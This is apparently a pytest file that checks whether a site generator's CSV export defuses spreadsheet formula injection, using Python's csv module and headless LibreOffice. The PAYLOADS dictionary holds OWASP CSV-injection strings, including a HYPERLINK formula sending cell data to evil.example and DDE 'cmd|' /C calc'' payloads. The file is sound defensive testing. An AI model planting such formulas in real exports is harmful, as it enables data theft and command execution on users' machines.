"""incidents.csv read as a spreadsheet reads it: no hostile record text becomes a formula.

A site is built by the real pipeline from a copy of the records in which one record's text
fields start like formulas (OWASP's "CSV injection" payloads) and its longitude is negative.
The CSV is then read twice: by Python's csv module, checking OWASP's rule on every cell, and
by LibreOffice (headless, the real import filter, formulas evaluated) converted to flat ODF,
checking that no cell holds a formula and that the coordinates are still numbers.
"""

from __future__ import annotations

import csv
import io
import os
import shutil
import subprocess
import xml.etree.ElementTree as ET
from pathlib import Path
from typing import Any

import pytest
import yaml

from generator.build import build
from generator.site import exports

RECORD = "2023-10-18-baghdad-airport-attack"  # a record with its own location (no base)
PAYLOADS = {
    "summary.en": '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "summary.fr": "+cmd|' /C calc'!A0",
    "date_note": "@SUM(1+1)*cmd|' /C calc'!A0",
    "location.name": "-2+3+cmd|' /C calc'!A0",
    "location.names.fr": "-2+3+cmd|' /C calc'!A0",
    "location.names.en": "-2+3+cmd|' /C calc'!A0",
    "location.admin1": "  =1+1",  # spaces first: an import that trims them sees "=1+1"
    "location.admin1_names.fr": "  =1+1",
    "location.admin1_names.en": "  =1+1",
    "sources.0.publisher": "AFP;=2+2",  # a new cell for a spreadsheet told to split on ";"
}
LONGITUDE = -1.5
OWASP_STARTS = ("=", "+", "-", "@", "\t", "\r")
NUMBER_COLUMNS = {"year", "latitude", "longitude"} | {
    name for name in exports.FIELDNAMES if name.startswith(("fatalities", "injured"))
}
ODF = {
    "table": "urn:oasis:names:tc:opendocument:xmlns:table:1.0",
    "office": "urn:oasis:names:tc:opendocument:xmlns:office:1.0",
    "text": "urn:oasis:names:tc:opendocument:xmlns:text:1.0",
}


def _set(data: dict[str, Any], dotted: str, value: Any) -> None:
    *path, last = dotted.split(".")
    for key in path:
        data = data[int(key)] if key.isdigit() else data[key]  # type: ignore[index]
    data[last] = value


@pytest.fixture(scope="module")
def hostile_csv(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = tmp_path_factory.mktemp("csv-injection")
    repo = Path(__file__).resolve().parent.parent
    shutil.copytree(repo / "content", root / "content")
    shutil.copytree(repo / "seeds", root / "seeds")
    path = root / "content" / "incidents" / "2023" / f"{RECORD}.yaml"
    data = yaml.safe_load(path.read_text(encoding="utf-8"))
    for dotted, payload in PAYLOADS.items():
        _set(data, dotted, payload)
    data["location"]["lon"] = LONGITUDE
    path.write_text(yaml.safe_dump(data, allow_unicode=True, sort_keys=False), encoding="utf-8")
    build(root / "content", root / "output", search_index=False)
    return root / "output" / "data" / "incidents.csv"


def test_cells_that_start_like_formulas_get_a_leading_quote() -> None:
    assert exports._cell("=1+1") == "'=1+1"
    assert exports._cell("\t=1+1") == "'\t=1+1" and exports._cell("\r=1") == "'\r=1"
    assert exports._cell(" \n@SUM(A1)") == "' \n@SUM(A1)"
    assert exports._cell("AFP; Reuters") == "AFP; Reuters" and exports._cell(None) == ""
    assert exports._cell(-1.5) == -1.5 and exports._cell(-3) == -3  # numbers stay numbers


def test_no_text_cell_starts_like_a_formula(hostile_csv: Path) -> None:
    text = hostile_csv.read_text(encoding="utf-8")
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    row = next(r for r in rows if r["id"] == RECORD)
    for name, payload in (("notes", PAYLOADS["summary.en"]), ("location", "-2+3")):
        assert row[name].startswith("'" + payload), (name, row[name])
    assert row["source"].startswith("AFP;=2+2")  # safe at the start: see the quoting below
    for r in rows:
        for name, value in r.items():
            if name in NUMBER_COLUMNS:
                assert value == "" or isinstance(float(value), float), (name, value)
            else:
                assert not value.lstrip().startswith(OWASP_STARTS), (r["id"], name, value)
    assert float(row["longitude"]) == LONGITUDE
    # Text cells are quoted and numbers are not: a ";" inside a cell cannot start a new one.
    line = next(line for line in text.splitlines() if line.startswith(f'"{RECORD}"'))
    assert '"AFP;=2+2' in line and f",{LONGITUDE}," in line


def _cells(fods: Path) -> list[list[tuple[str | None, str | None, str | None, str]]]:
    """(value type, formula, value, text) of every cell of the first sheet, row by row."""
    table = ET.parse(fods).getroot().find(".//table:table", ODF)
    assert table is not None
    rows = []
    for tr in table.iter(f"{{{ODF['table']}}}table-row"):
        cells = []
        for td in tr.iter(f"{{{ODF['table']}}}table-cell"):
            repeat = int(td.get(f"{{{ODF['table']}}}number-columns-repeated", "1"))
            text = "\n".join("".join(p.itertext()) for p in td.findall("text:p", ODF))
            cell = (
                td.get(f"{{{ODF['office']}}}value-type"),
                td.get(f"{{{ODF['table']}}}formula"),
                td.get(f"{{{ODF['office']}}}value"),
                text,
            )
            cells += [cell] * min(repeat, len(exports.FIELDNAMES))
        rows.append(cells[: len(exports.FIELDNAMES)])
    return rows


# LibreOffice's CSV filter options: separators (44 = ",", 59 = ";"), text delimiter ("),
# UTF-8 (76), from line 1, standard column types, default language, quoted fields not
# forced to text, special numbers detected, ..., trim spaces, sheet, EVALUATE FORMULAS.
FILTERS = {
    "as opened": None,
    "split on , and ;, trimmed, formulas on": (
        "CSV:44/59,34,76,1,,0,false,true,false,false,true,-1,true"
    ),
}


@pytest.mark.skipif(
    not shutil.which("soffice"), reason="LibreOffice missing: tools/setup.sh --test installs it"
)
@pytest.mark.parametrize("options", FILTERS.values(), ids=FILTERS.keys())
def test_libreoffice_opens_it_without_a_formula(
    hostile_csv: Path, tmp_path: Path, options: str | None
) -> None:
    command = ["soffice", f"-env:UserInstallation=file://{tmp_path}/profile", "--headless"]
    if options:
        command.append(f"--infilter={options}")
    command += ["--convert-to", "fods", "--outdir", str(tmp_path), str(hostile_csv)]
    env = {**os.environ, "HOME": str(tmp_path)}  # its own profile: tests run side by side
    done = subprocess.run(command, capture_output=True, text=True, timeout=120, env=env)
    fods = tmp_path / "incidents.fods"
    assert fods.is_file(), done.stdout + done.stderr
    rows = _cells(fods)
    header = [text for _, _, _, text in rows[0]]
    assert header == exports.FIELDNAMES
    formulas = [(r, c) for r, row in enumerate(rows) for c, cell in enumerate(row) if cell[1]]
    assert formulas == []
    row = next(row for row in rows if row[0][3] == RECORD)
    cell = dict(zip(header, row, strict=True))
    assert cell["longitude"][0] == "float" and float(cell["longitude"][2] or "") == LONGITUDE
    assert cell["latitude"][0] == "float" and cell["year"][0] == "float"
    assert cell["notes"][3] == "'" + PAYLOADS["summary.en"]
    assert cell["source"][3] == PAYLOADS["sources.0.publisher"]  # still one cell
